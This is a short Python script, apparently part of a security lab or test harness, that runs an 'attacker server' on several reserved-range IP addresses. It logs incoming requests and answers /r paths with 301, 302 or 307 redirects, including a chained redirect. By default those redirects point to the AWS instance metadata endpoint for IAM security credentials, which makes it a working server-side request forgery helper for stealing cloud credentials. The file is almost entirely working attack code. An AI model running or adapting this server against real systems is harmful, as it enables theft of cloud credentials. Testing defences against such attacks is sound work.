#!/usr/bin/env python3
"""Attacker's own server (redirects, collection of loot) on 203.0.113.66:80, 203.0.113.80:80. Usage: atk_srv.py LOG"""

import sys, json, time, threading
from http.server import ThreadingHTTPServer, BaseHTTPRequestHandler
from urllib.parse import urlsplit, parse_qs

LOG = sys.argv[1]


class H(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "nginx"
    sys_version = ""

    def log_message(self, *a):
        pass

    def do_GET(self):
        n = int(self.headers.get("content-length") or 0)
        b = self.rfile.read(n)
        with open(LOG, "a") as f:
            f.write(
                json.dumps(
                    {
                        "ts": time.time(),
                        "client": self.client_address[0],
                        "client_port": self.client_address[1],
                        "server": self.server.server_address[0],
                        "method": self.command,
                        "path": self.path,
                        "host": self.headers.get("host"),
                        "body_len": n,
                    }
                )
                + "\n"
            )
        q = parse_qs(urlsplit(self.path).query)
        p = urlsplit(self.path).path
        if p.startswith("/r"):
            code = {"/r": 302, "/r307": 307, "/r301": 301}.get(p, 302)
            to = q.get("to", ["http://169.254.169.254/latest/meta-data/iam/security-credentials/demo-web-role"])[0]
            if p == "/rchain":
                to = "http://203.0.113.80/r"
            self.send_response(code)
            self.send_header("Location", to)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        body = b"harmless page\n"
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_PUT = do_HEAD = do_GET


for ip in ("203.0.113.66", "203.0.113.80", "192.0.2.12", "192.0.2.13", "192.0.2.14"):
    s = ThreadingHTTPServer((ip, 80), H)
    threading.Thread(target=s.serve_forever, daemon=True).start()
print("attacker server up", flush=True)
while True:
    time.sleep(3600)
